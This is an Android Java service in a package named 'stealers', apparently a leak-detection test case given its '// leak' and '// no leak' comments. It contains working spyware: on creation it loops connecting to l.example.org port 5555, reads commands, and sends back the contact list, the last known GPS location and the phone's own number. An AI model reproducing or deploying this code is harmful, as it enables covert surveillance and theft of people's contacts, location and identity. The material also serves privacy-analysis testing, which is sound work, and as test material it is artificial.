package stealers;

import android.app.Service;
import android.content.*;
import android.database.Cursor;
import android.location.*;
import android.os.*;
import android.provider.*;
import android.telephony.TelephonyManager;

import java.io.*;
import java.net.Socket;

/** A line comes in, an answer goes out, for ever. */
public class Loop extends Service {
    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public void onCreate() {
        new Thread(
                        new Runnable() {
                            public void run() {
                                while (true) {
                                    try {
                                        talk(new Socket("l.example.org", 5555));
                                    } catch (Exception e) {
                                        SystemClock.sleep(5000);
                                    }
                                }
                            }
                        })
                .start();
    }

    void talk(Socket s) throws IOException {
        BufferedReader in = new BufferedReader(new InputStreamReader(s.getInputStream()));
        DataOutputStream out = new DataOutputStream(s.getOutputStream());
        String line;
        while ((line = in.readLine()) != null) {
            String[] words = line.split(" ");
            switch (words[0]) {
                case "people":
                    out.write(people().getBytes()); // leak
                    break;
                case "where":
                    out.writeUTF(where()); // leak
                    break;
                case "who":
                    out.writeChars(((TelephonyManager) getSystemService("phone")).getLine1Number() + "\n"); // leak
                    break;
                case "ls":
                    for (File f : new File(words[1]).listFiles()) out.writeUTF("ok"); // no leak
                    break;
                case "ping":
                    out.writeUTF("pong " + words[1]); // no leak
                    break;
                default:
                    out.writeUTF("?" + line); // no leak
            }
        }
    }

    String people() {
        StringBuilder b = new StringBuilder();
        Cursor c = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        int name = c.getColumnIndex(ContactsContract.CommonDataKinds.Phone.DISPLAY_NAME);
        while (c.moveToNext()) b.append(c.getString(name)).append("|");
        c.close();
        return b.toString();
    }

    String where() {
        LocationManager m = (LocationManager) getSystemService(LOCATION_SERVICE);
        Location best = null;
        for (String p : m.getProviders(true)) {
            Location l = m.getLastKnownLocation(p);
            if (l == null) continue;
            if (best == null || l.getAccuracy() < best.getAccuracy()) best = l;
        }
        return best == null ? "none" : best.getLatitude() + "," + best.getLongitude();
    }
}
